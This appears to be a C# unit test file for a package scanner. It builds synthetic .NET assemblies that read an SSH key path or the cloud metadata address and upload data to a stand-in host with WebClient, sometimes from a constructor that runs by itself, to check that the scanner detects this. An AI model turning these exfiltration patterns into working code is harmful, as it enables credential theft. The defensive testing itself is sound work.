using System.Reflection;
using System.Reflection.Emit;
using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.DotNet;

namespace PackageWall.Inspection.Tests.Languages.DotNet;

/// <summary>An assembly is many source files in one: what stands in it together need not belong together.</summary>
public sealed class NearnessTests
{
    private const MethodAttributes Virtual = MethodAttributes.Public | MethodAttributes.Virtual | MethodAttributes.HideBySig | MethodAttributes.NewSlot;

    private readonly Assemblies _sample = new();

    [Fact]
    public void A_place_is_apart_from_the_network_when_no_method_leads_to_both()
    {
        TypeBuilder profile = _sample.Type("Space.Profile");
        Assemblies.Method(profile, "Find", Read);
        TypeBuilder client = _sample.Type("Space.Client");
        Assemblies.Method(client, "Send", Send);

        Place(profile, client).IsApart.ShouldBeTrue();
    }

    [Fact]
    public void A_method_that_leads_to_both_brings_them_together()
    {
        TypeBuilder profile = _sample.Type("Space.Profile");
        MethodBuilder find = Assemblies.Method(profile, "Find", Read);
        TypeBuilder client = _sample.Type("Space.Client");
        MethodBuilder send = Assemblies.Method(client, "Send", Send);
        TypeBuilder tool = _sample.Type("Space.Tool");
        Assemblies.Method(tool, "Go", il =>
        {
            il.Emit(OpCodes.Call, find);
            il.Emit(OpCodes.Call, send);
        });

        Place(profile, client, tool).IsApart.ShouldBeFalse();
    }

    [Fact]
    public void So_does_one_that_calls_whatever_implements_a_method()
    {
        TypeBuilder collector = _sample.Type("Space.Collector");
        MethodBuilder collect = Assemblies.Method(collector, "Collect", _ => { }, Virtual);
        TypeBuilder profile = _sample.Type("Space.Profile");
        Assemblies.Method(profile, "Collect", Read, Virtual);
        TypeBuilder client = _sample.Type("Space.Client");
        MethodBuilder send = Assemblies.Method(client, "Send", Send);
        TypeBuilder tool = _sample.Type("Space.Tool");
        Assemblies.Method(tool, "Go", il =>
        {
            il.Emit(OpCodes.Ldnull);
            il.Emit(OpCodes.Callvirt, collect);
            il.Emit(OpCodes.Call, send);
        });

        Place(collector, profile, client, tool).IsApart.ShouldBeFalse();
    }

    [Fact]
    public void So_do_a_type_and_a_static_constructor()
    {
        TypeBuilder profile = _sample.Type("Space.Profile");
        Assemblies.Method(profile, "Find", Read);
        Assemblies.Method(profile, "Send", Send);
        Place(profile).IsApart.ShouldBeFalse();

        Assemblies other = new();
        TypeBuilder paths = other.Type("Space.Paths");
        ILGenerator il = paths.DefineTypeInitializer().GetILGenerator();
        Read(il);
        il.Emit(OpCodes.Ret);
        TypeBuilder client = other.Type("Space.Client");
        Assemblies.Method(client, "Send", Send);
        Facts(other.Build(paths, client)).Single(fact => fact.Name == "read.secret.ssh").IsApart.ShouldBeFalse();
    }

    [Fact]
    public void Nothing_is_apart_where_something_runs_by_itself()
    {
        TypeBuilder profile = _sample.Type("Space.Profile");
        Assemblies.Method(profile, "Find", Read);
        TypeBuilder client = _sample.Type("Space.Client");
        Assemblies.Method(client, "Send", Send);
        _sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []).GetILGenerator().Emit(OpCodes.Ret);
        _sample.Module.CreateGlobalFunctions();

        Place(profile, client).IsApart.ShouldBeFalse();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void An_address_is_read_by_who_connects(bool connects)
    {
        TypeBuilder list = _sample.Type("Space.Allowed");
        MethodBuilder fill = Assemblies.Method(list, "Fill", il =>
        {
            il.Emit(OpCodes.Ldstr, "169.254.169.254");
            il.Emit(OpCodes.Pop);
        });
        _sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []).GetILGenerator().Call(fill);
        _sample.Module.CreateGlobalFunctions();
        TypeBuilder client = _sample.Type("Space.Client");
        Assemblies.Method(client, "Send", connects ? Send : _ => { });

        Facts(_sample.Build(list, client)).Any(fact => fact is { Name: "dotnet.load-reaches", Value: "read.secret.metadata" }).ShouldBe(connects);
    }

    [Theory]
    [InlineData("<Go>d__1", "Go")]
    [InlineData("<<Go>b__0>d", "<Go>b__0")]
    public void A_state_machine_belongs_to_the_method_it_is_named_after(string machine, string method)
    {
        TypeBuilder tool = _sample.Type("Tool");
        Assemblies.Method(tool, method, _ => { });
        TypeBuilder nested = tool.DefineNestedType(machine, TypeAttributes.NestedPrivate);
        Assemblies.Method(nested, "MoveNext", Send, Virtual);
        tool.CreateType();

        FileFacts facts = new DotNetReader(FakeReaders.ReadAs, FakeReaders.Vocabulary).Read(FakeReaders.Source("lib/a.dll", _sample.Build(nested)));
        facts.Calls.ShouldContain(($"Tool.{method}", $"new Tool/{machine}"));
    }

    private static void Read(ILGenerator il)
    {
        il.Emit(OpCodes.Ldstr, "/root/.ssh/id_rsa");
        il.Emit(OpCodes.Pop);
    }

    private static void Send(ILGenerator il)
    {
        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
        il.Emit(OpCodes.Ldstr, "https://api.invalid/");
        il.Emit(OpCodes.Ldstr, "x");
        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
        il.Emit(OpCodes.Pop);
    }

    private static IReadOnlyList<Fact> Facts(byte[] assembly) => new DotNetReader(FakeReaders.ReadAs, LiteralVocabulary.Default).Read(FakeReaders.Source("lib/a.dll", assembly)).Facts;

    private Fact Place(params TypeBuilder[] types) => Facts(_sample.Build(types)).Single(fact => fact.Name == "read.secret.ssh");
}
